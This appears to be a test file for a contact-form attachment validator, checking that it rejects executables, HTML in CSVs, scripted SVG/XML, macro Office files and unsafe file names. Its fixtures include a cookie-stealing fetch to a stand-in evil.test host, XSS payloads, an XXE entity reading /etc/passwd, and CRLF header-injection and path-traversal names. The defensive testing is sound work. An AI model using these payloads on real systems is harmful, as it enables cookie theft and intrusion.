import { fc, test } from "@fast-check/vitest"
import * as Result from "effect/Result"
import { describe, expect, it } from "vitest"
import {
  attachmentAccept,
  attachmentContentTypes,
  attachmentCountLabel,
  attachmentExtensions,
  attachmentLimits,
  attachmentMessages,
  checkAttachment,
  checkAttachments,
  isExecutableContent,
  safeAttachmentName,
} from "../../../src/help/contact/Attachment.ts"
import { docxEntries, storedZip, xlsxEntries } from "./zip.ts"

const bytes = (...parts: ReadonlyArray<string | ReadonlyArray<number>>): Uint8Array<ArrayBuffer> =>
  new Uint8Array(parts.flatMap((part) => (typeof part === "string" ? Array.from(new TextEncoder().encode(part)) : [...part])))

/** A real start of each accepted kind. */
const samples = {
  png: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], "IHDR"),
  jpeg: bytes([0xff, 0xd8, 0xff, 0xe0], "JFIF"),
  gif: bytes("GIF89a", [1, 0, 1, 0]),
  webp: bytes("RIFF", [0x24, 0, 0, 0], "WEBPVP8 "),
  pdf: bytes("%PDF-1.7\n"),
  xlsx: storedZip(xlsxEntries),
  docx: storedZip(docxEntries),
  doc: bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
  csv: bytes("order,sku\n10000001001,123\n"),
  xml: bytes('<?xml version="1.0"?><a/>'),
} as const

const file = (name: string, content: Uint8Array<ArrayBuffer>, size = content.length) => ({ name, size, bytes: content })
const problemOf = (name: string, content: Uint8Array<ArrayBuffer>, size?: number) => {
  const result = checkAttachment(file(name, content, size))
  return Result.isFailure(result) ? result.failure.problem : "accepted"
}

describe("checkAttachment (orders §3: images, xlsx, csv, doc, docx, xml, pdf)", () => {
  it.each(Object.entries(attachmentExtensions))("accepts a .%s whose content is a %s", (extension, kind) => {
    expect(checkAttachment(file(`File.${extension.toUpperCase()}`, samples[kind]))).toEqual(
      Result.succeed({ name: `File.${extension.toUpperCase()}`, size: samples[kind].length, kind }),
    )
  })

  it.each(["exe", "js", "html", "svg", "zip", "txt", ""])("refuses the extension %j", (extension) => {
    expect(problemOf(extension === "" ? "README" : `file.${extension}`, samples.pdf)).toBe("type")
  })

  it("refuses a .pdf whose content is a Windows or ELF executable", () => {
    expect(problemOf("invoice.pdf", bytes("MZ", [0x90, 0, 3, 0]))).toBe("executable")
    expect(problemOf("invoice.pdf", bytes([0x7f], "ELF", [2, 1, 1]))).toBe("executable")
    expect(problemOf("list.csv", bytes("MZ this looks like text"))).toBe("executable")
  })

  it("refuses content that is not what the extension says", () => {
    expect(problemOf("photo.png", samples.jpeg)).toBe("content")
    expect(problemOf("sheet.xlsx", samples.doc)).toBe("content")
    expect(problemOf("letter.doc", samples.docx)).toBe("content")
    expect(problemOf("image.webp", bytes("RIFF", [0, 0, 0, 0], "WAVE"))).toBe("content")
    expect(problemOf("data.csv", bytes("a,b", [0], "c"))).toBe("content")
    expect(problemOf("data.xml", bytes("not xml"))).toBe("content")
  })

  it("accepts XML after a byte-order mark and white space, and XML without a declaration", () => {
    expect(problemOf("a.xml", bytes([0xef, 0xbb, 0xbf], "\n  <?xml version='1.0'?>"))).toBe("accepted")
    expect(problemOf("a.xml", bytes("<order/>"))).toBe("accepted")
  })

  it("judges the whole content, not its start: a NUL byte at the end of a large CSV is found", () => {
    const content = new Uint8Array(1024 * 1024).fill(0x61)
    expect(problemOf("big.csv", content)).toBe("accepted")
    content[content.length - 1] = 0
    expect(problemOf("big.csv", content)).toBe("content")
  })

  it("refuses an empty file and one over 5 MB (5 MB exactly is accepted)", () => {
    expect(problemOf("a.pdf", new Uint8Array(0), 0)).toBe("empty")
    expect(problemOf("a.pdf", samples.pdf, 0)).toBe("empty")
    expect(problemOf("a.pdf", samples.pdf, attachmentLimits.maxFileBytes)).toBe("accepted")
    expect(problemOf("a.pdf", samples.pdf, attachmentLimits.maxFileBytes + 1)).toBe("tooLarge")
  })

  it("says why with the problem's message", () => {
    const result = checkAttachment(file("run.pdf", bytes("MZ")))
    expect(result).toEqual(Result.fail({ name: "run.pdf", problem: "executable", message: attachmentMessages.executable }))
  })

  test.prop([fc.constantFrom(...Object.keys(attachmentExtensions)), fc.uint8Array({ maxLength: 64 })])(
    "never accepts executable content, whatever the name",
    (extension, tail) => {
      expect(problemOf(`x.${extension}`, bytes("MZ", [...tail]))).toBe("executable")
      expect(problemOf(`x.${extension}`, bytes([0x7f], "ELF", [...tail]))).toBe("executable")
    },
  )

  test.prop([fc.string(), fc.uint8Array({ maxLength: 64 }), fc.integer()])(
    "accepts only an accepted extension with matching, non-executable content",
    (name, content, size) => {
      const result = checkAttachment(file(name, new Uint8Array(content), size))
      if (Result.isSuccess(result)) {
        const sent = result.success.name
        expect(Object.keys(attachmentExtensions)).toContain(sent.slice(sent.lastIndexOf(".") + 1).toLowerCase())
        expect(isExecutableContent(content)).toBe(false)
        expect(size > 0 && size <= attachmentLimits.maxFileBytes).toBe(true)
      }
    },
  )

  it("offers the accepted extensions to the file input", () => {
    expect(attachmentAccept).toBe(".png,.jpg,.jpeg,.gif,.webp,.pdf,.xlsx,.docx,.doc,.csv,.xml")
  })
})

describe("the content is recognised, never taken from the name or a declared type", () => {
  const text = (value: string) => bytes(value)

  it("sends each kind with the content type of the kind recognised", () => {
    for (const [extension, kind] of Object.entries(attachmentExtensions)) {
      const result = checkAttachment(file(`a.${extension}`, samples[kind]))
      expect(Result.isSuccess(result) ? attachmentContentTypes[result.success.kind] : undefined).toBe(attachmentContentTypes[kind])
    }
    expect(attachmentContentTypes).toMatchObject({ pdf: "application/pdf", csv: "text/csv", xml: "application/xml", png: "image/png" })
  })

  it("a PDF starts %PDF-; a binary kind's content is neither CSV nor XML", () => {
    expect(problemOf("a.pdf", text("%PDF1.7"))).toBe("content")
    expect(problemOf("a.csv", samples.pdf)).toBe("content")
    expect(problemOf("a.xml", samples.gif)).toBe("content")
  })

  it("refuses an HTML page named .csv, and keeps a CSV whose cells compare numbers", () => {
    const page = "<!DOCTYPE html>\n<html><body><script>fetch('https://evil.test/?c=' + document.cookie)</script></body></html>\n"
    expect(problemOf("orders.csv", text(page))).toBe("html")
    expect(problemOf("orders.csv", text("sku,note\n123,<img src=x onerror=alert(1)>\n"))).toBe("html")
    expect(problemOf("orders.csv", text("sku,note\n123,</td>\n"))).toBe("html")
    expect(problemOf("orders.csv", text("a,b\nx < 5,y<7\n1<2,\"<3\"\n"))).toBe("accepted")
    expect(checkAttachment(file("orders.csv", text(page)))).toEqual(
      Result.fail({ name: "orders.csv", problem: "html", message: "This CSV file contains HTML and cannot be attached." }),
    )
  })

  it("refuses an SVG with a script named .xml, and every other XML a browser would run", () => {
    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
    expect(problemOf("invoice.xml", text(svg))).toBe("activeXml")
    for (
      const active of [
        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>', // the SVG namespace alone
        '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', // XHTML
        '<a:svg xmlns:a="http://www.w3.org/2000/&#115;vg"/>', // the namespace behind a character reference
        '<a:svg xmlns:a="http://www.w3.org/2000/&#x73;vg"/>',
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order>&xxe;</order>', // a DOCTYPE
        "<!doctype order><order/>",
        '<?xml-stylesheet type="text/xsl" href="https://evil.test/run.xsl"?><order/>', // a style sheet that runs
        '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
        "<order><script>alert(1)</script></order>", // script under no namespace
        '<order><h:script xmlns:h="urn:x">alert(1)</h:script></order>',
        "<order><SCRIPT\n>alert(1)</SCRIPT></order>",
      ]
    ) expect([active, problemOf("a.xml", text(active))]).toEqual([active, "activeXml"])
    expect(problemOf("a.xml", text('<?xml version="1.0" encoding="UTF-8"?><order id="1"><description>scripted</description><x>svg</x></order>')))
      .toBe("accepted")
    expect(attachmentMessages.activeXml).toBe("This XML file contains a script, web page or SVG content, or a DOCTYPE, and cannot be attached.")
  })

  it("a .docx or .xlsx must be a real Office Open XML package, read from its central directory", () => {
    expect(problemOf("letter.docx", storedZip(docxEntries))).toBe("accepted")
    expect(problemOf("sheet.xlsx", storedZip(xlsxEntries))).toBe("accepted")
    expect(problemOf("letter.docx", storedZip(docxEntries, "a comment at the end"))).toBe("accepted")
    // any ZIP is not a document
    expect(problemOf("letter.docx", storedZip(["payload.exe", "readme.txt"]))).toBe("notOffice")
    expect(problemOf("letter.docx", storedZip(["word/document.xml"]))).toBe("notOffice") // no [Content_Types].xml
    expect(problemOf("letter.docx", storedZip(["[Content_Types].xml", "docProps/app.xml"]))).toBe("notOffice")
    // the other kind, both, or macros
    expect(problemOf("letter.docx", storedZip(xlsxEntries))).toBe("notOffice")
    expect(problemOf("sheet.xlsx", storedZip(docxEntries))).toBe("notOffice")
    expect(problemOf("both.docx", storedZip([...docxEntries, "xl/workbook.xml"]))).toBe("notOffice")
    expect(problemOf("macro.docx", storedZip([...docxEntries, "word/vbaProject.bin"]))).toBe("notOffice")
    // not a whole ZIP: the first bytes alone, a cut directory, entries pointing nowhere
    const whole = storedZip(docxEntries)
    expect(problemOf("letter.docx", bytes([0x50, 0x4b, 0x03, 0x04], "[Content_Types].xml word/document.xml"))).toBe("notOffice")
    expect(problemOf("letter.docx", whole.slice(0, whole.length - 30))).toBe("notOffice")
    const moved = whole.slice()
    moved[moved.length - 6] = 0xff // the directory's offset past the end record
    expect(problemOf("letter.docx", moved)).toBe("notOffice")
    expect(problemOf("letter.docx", samples.doc)).toBe("content")
  })

  test.prop([fc.array(fc.stringMatching(/^[a-z]{1,8}(\/[a-z]{1,8}){0,2}\.xml$/), { maxLength: 8 })])(
    "any package with the content types and word/ parts (and no xl/ or macros) is a docx",
    (others) => {
      const names = [...docxEntries, ...others.filter((name) => !name.startsWith("xl/"))]
      expect(problemOf("a.docx", storedZip(names))).toBe("accepted")
      expect(problemOf("a.xlsx", storedZip(names))).toBe("notOffice")
    },
  )

  test.prop([fc.uint8Array({ maxLength: 512 })])("bytes after a ZIP signature are never taken for a document unless they are one", (tail) => {
    const content = bytes([0x50, 0x4b, 0x03, 0x04], [...tail])
    expect(["notOffice", "accepted"]).toContain(problemOf("a.docx", content))
    if (problemOf("a.docx", content) === "accepted") expect(new TextDecoder("latin1").decode(content).toLowerCase()).toContain("word/")
  })
})

describe("safeAttachmentName: a safe base name, the extension kept", () => {
  it.each([
    ["../../../etc/passwd.pdf", "passwd.pdf"],
    ["..\\..\\Windows\\win.ini.pdf", "win.ini.pdf"],
    ["C:\\Users\\ada\\Desktop\\receipt.PDF", "receipt.PDF"],
    ['a".pdf\r\nContent-Type: text/html', "html"],
    ['a".pdf\r\nContent-Type: text_html.pdf', "a_.pdfContent-Type_ text_html.pdf"],
    ["invoice\u202Efdp.exe.pdf", "invoicefdp.exe.pdf"],
    ["  ..hidden.csv. ", "hidden.csv"],
    [".pdf", "attachment.pdf"],
    ["\u0000\u0007", "attachment"],
    ["report <final>?.xlsx", "report _final__.xlsx"],
    ["café.pdf", "café.pdf"],
  ])("%j becomes %j", (name, safe) => {
    expect(safeAttachmentName(name)).toBe(safe)
  })

  it("cuts a 5,000-character name to 100 characters, keeping its extension", () => {
    const safe = safeAttachmentName(`${"a".repeat(5000)}.docx`)
    expect(safe).toBe(`${"a".repeat(95)}.docx`)
    expect(safeAttachmentName("😀".repeat(3000) + ".pdf")).toBe(`${"😀".repeat(48)}.pdf`) // never half a pair
    expect(safeAttachmentName("x".repeat(5000))).toBe("x".repeat(100))
  })

  it("is what checkAttachment accepts and refuses a file by", () => {
    expect(checkAttachment(file("../../../etc/passwd.pdf", samples.pdf))).toEqual(
      Result.succeed({ name: "passwd.pdf", size: samples.pdf.length, kind: "pdf" }),
    )
    const injected = checkAttachment(file('a".pdf\r\nContent-Type: text/html', samples.pdf))
    expect(injected).toEqual(Result.fail({ name: "html", problem: "type", message: attachmentMessages.type }))
    const long = checkAttachment(file(`${"n".repeat(5000)}.pdf`, samples.pdf))
    expect(Result.isSuccess(long) ? long.success.name.length : 0).toBe(100)
  })

  const anyName = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 300 }),
    fc.string({ unit: fc.constantFrom("/", "\\", ".", " ", '"', "'", "`", "\r", "\n", "\u0000", "\u202e", "a", "é", "😀", ":"), maxLength: 300 }),
  )

  test.prop([anyName])("never a path, a control or invisible character, a quote; 1 to 100 characters; stable", (name) => {
    const safe = safeAttachmentName(name)
    expect(safe).not.toMatch(/[/\\"'`\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
    expect(safe.length).toBeGreaterThan(0)
    expect(safe.length).toBeLessThanOrEqual(attachmentLimits.maxNameLength)
    expect(safe.isWellFormed()).toBe(true)
    expect(safeAttachmentName(safe)).toBe(safe)
  })

  test.prop([anyName, fc.constantFrom(...Object.keys(attachmentExtensions)), fc.boolean()])(
    "keeps an accepted extension, as typed",
    (stem, extension, upper) => {
      const typed = upper ? extension.toUpperCase() : extension
      expect(safeAttachmentName(`${stem}.${typed}`).endsWith(`.${typed}`)).toBe(true)
    },
  )
})

describe("checkAttachments (the set: 5 files, 10 MB in all)", () => {
  const pdf = (name: string, size = samples.pdf.length) => file(name, samples.pdf, size)

  it("accepts up to 5 files and refuses a sixth", () => {
    const five = [1, 2, 3, 4, 5].map((n) => pdf(`${n}.pdf`))
    expect(checkAttachments(five)).toEqual({ accepted: five.map((each) => ({ name: each.name, size: each.size, kind: "pdf" })), refused: [] })
    expect(checkAttachments([...five, pdf("6.pdf")]).refused.map((each) => each.problem)).toEqual(["tooMany"])
  })

  it("refuses more than 10 MB in all (10 MB exactly is accepted)", () => {
    const mb = 1024 * 1024
    expect(checkAttachments([pdf("a.pdf", 4 * mb), pdf("b.pdf", 4 * mb), pdf("c.pdf", 2 * mb)]).refused).toEqual([])
    expect(checkAttachments([pdf("a.pdf", 4 * mb), pdf("b.pdf", 4 * mb), pdf("c.pdf", 2 * mb + 1)]).refused.map((each) => each.problem))
      .toEqual(["totalTooLarge"])
  })

  it("lists each refused file before the set's problems", () => {
    const check = checkAttachments([pdf("a.pdf"), file("b.pdf", bytes("MZ"))])
    expect(check.accepted.map((each) => each.name)).toEqual(["a.pdf"])
    expect(check.refused.map((each) => [each.name, each.problem])).toEqual([["b.pdf", "executable"]])
  })
})

describe("attachmentCountLabel (several files shown as a count)", () => {
  it.each([[0, "No file chosen"], [1, "1 file"], [2, "2 files"], [3, "3 files"], [-1, "No file chosen"], [1.5, "No file chosen"]])(
    "%d reads %j",
    (count, label) => {
      expect(attachmentCountLabel(count)).toBe(label)
    },
  )
})
